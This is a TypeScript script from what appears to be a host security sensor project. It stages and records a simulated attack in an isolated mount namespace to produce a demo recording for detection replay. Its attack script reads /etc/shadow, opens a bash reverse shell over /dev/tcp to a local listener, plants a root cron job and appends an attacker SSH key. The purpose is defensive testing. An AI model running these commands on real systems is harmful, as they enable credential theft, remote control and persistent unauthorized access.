/**
 * Makes test/recordings/demo.tsr, which `npm run dev` replays: a small staged attack, recorded for real and then cut down to
 * the processes of the stage, so that nothing of the machine it was made on is in it. Needs root and the built sensor:
 *
 *   node tools/record-demo.ts
 *
 * Do it again when event kinds or record layouts have changed in a way that the demo should show; older recordings stay readable.
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { copyFileSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { HostFacts } from '../src/enrich/host-facts.ts'
import { type Batch, batchOf } from '../src/events/raw-record.ts'
import { type HeaderRecord, ProcessForkRecord } from '../src/events/records.gen.ts'
import { readRecordedSide } from '../src/pipeline/recorded-host.ts'
import { eachRecord } from '../src/sources/each-record.ts'
import { openRecording } from '../src/sources/recording/reader.ts'
import { createRecording } from '../src/sources/recording.ts'

const ROOT = fileURLToPath(new URL('..', import.meta.url))
const DEMO = join(ROOT, 'test/recordings/demo.tsr')
/** The stage: its path is in the recording. */
const STAGE = '/srv/app'
const PORT = 4444
const HOSTNAME = 'web-1'
const BOOT_ID = '5eed5eed-0000-4000-8000-000000000000'

/** What the attacker does, line by line, with time between for the eye. */
const SCRIPT = `
cd ${STAGE}
read -r go
sleep 0.3; id > /dev/null
sleep 0.3; ./odd /etc/shadow > /dev/null
sleep 0.3; ./process memfd
sleep 0.3; ./uring openat /etc/shadow > /dev/null
sleep 0.3; bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/${PORT} 0>&1'
sleep 0.3; echo '* * * * * root /srv/app/odd' > /etc/cron.d/update
sleep 0.3; echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys
sleep 0.3; cat /etc/hostname > /dev/null
`

const raw = join(ROOT, 'build/demo-raw.tsr')
const server = await listen()
buildStage()
const stage = startStage()
try {
  await record(stage)
  await cutDown(stage.pid ?? 0)
} finally {
  server.close()
  rmSync(raw, { force: true })
  rmSync(STAGE, { recursive: true, force: true })
}
console.log(`wrote ${DEMO}`)

/** Answers the reverse shell and ends it. */
async function listen(): Promise<Server> {
  const made = createServer((socket) => socket.end('id\nexit\n'))
  made.listen(PORT, '127.0.0.1')
  await once(made, 'listening')
  return made
}

function buildStage(): void {
  mkdirSync(STAGE, { recursive: true })
  copyFileSync('/bin/cat', join(STAGE, 'odd'))
  writeFileSync(join(STAGE, 'attack.sh'), SCRIPT)
  for (const name of ['process', 'uring']) {
    execFileSync('cc', ['-O1', '-w', '-pthread', '-o', join(STAGE, name), join(ROOT, `test/live/programs/${name}.c`)])
  }
}

/** A shell without our environment, in a mount namespace whose /root and /etc/cron.d are its own, that waits for a line. */
function startStage(): ChildProcess {
  const mounts = 'for folder in /root /etc/cron.d; do mount -t tmpfs none $folder; done; mkdir /root/.ssh'
  const shell = `${mounts}; exec env -i PATH=/usr/bin:/bin HOME=/root LANG=C setsid -w bash ${STAGE}/attack.sh`
  return spawn('unshare', ['--mount', 'sh', '-c', shell], { stdio: ['pipe', 'inherit', 'inherit'] })
}

async function record(actor: ChildProcess): Promise<void> {
  rmSync(raw, { force: true })
  const recorder = spawn(join(ROOT, 'tarsier'), ['record', raw], { stdio: ['ignore', 'inherit', 'pipe'] })
  for await (const text of recorder.stderr) if (/\bready\b/.test(String(text))) break
  actor.stdin?.end('go\n')
  await once(actor, 'exit')
  recorder.kill('SIGTERM')
  await once(recorder, 'exit')
}

/** Keeps what the stage's processes did, and of the snapshot the stage itself. */
async function cutDown(root: number): Promise<void> {
  const side = await readRecordedSide(raw)
  const source = await openRecording(raw)
  rmSync(DEMO, { force: true })
  const { bootEpochNs } = source.host
  const writer = await createRecording(DEMO, { host: { hostname: HOSTNAME, kernel: 'demo', bootEpochNs } })
  const pids = new Set([root])
  for await (const chunk of source.chunks()) {
    if (chunk.kind === 'snapshot') writer.snapshot(kept(chunk.batch, pids))
    else if (chunk.kind === 'events') writer.events(kept(chunk.batch, pids))
  }
  await source.close()
  await writer.close({ kind: 'tarsier-host', bootId: BOOT_ID, facts: cleanFacts(side?.facts, pids), lost: 0 })
}

function kept(batch: Batch, pids: Set<number>): Batch {
  const parts: Buffer[] = []
  eachRecord(batch, (one: HeaderRecord) => {
    if (!pids.has(one.pid)) return
    if (one instanceof ProcessForkRecord) pids.add(one.childPid)
    parts.push(batch.bytes.subarray(one.at, one.at + ((one.size + 7) & ~7)))
  })
  return batchOf(Buffer.concat(parts))
}

/** What a replay asks of the host: the stage's own arguments, the usual accounts, the files that rules name. */
function cleanFacts(facts: HostFacts | undefined, pids: ReadonlySet<number>): HostFacts {
  if (facts === undefined) throw new Error('the raw recording has no facts of its host')
  const ofStage = <T>(answers: Readonly<Record<string, T>>): Record<string, T> =>
    Object.fromEntries(Object.entries(answers).filter(([pid]) => pids.has(Number(pid))))
  const accounts = { version: '1', passwd: 'root:x:0:0:root:/root:/bin/bash\n', group: 'root:x:0:\n', uidMap: '', gidMap: '' }
  return {
    ...{ version: 1, hostname: HOSTNAME, process: {}, file: {}, directory: {} },
    cgroup: Object.fromEntries([...pids].map((pid) => [String(pid), [[1, '0::/system.slice/web.service\n']]])),
    arguments: ofStage(facts.arguments),
    accounts: Object.fromEntries(Object.keys(facts.accounts).map((namespace) => [namespace, [[1, accounts]]])),
    fileId: Object.fromEntries(Object.entries(facts.fileId).filter(([path]) => path.startsWith('/etc/'))),
  }
}
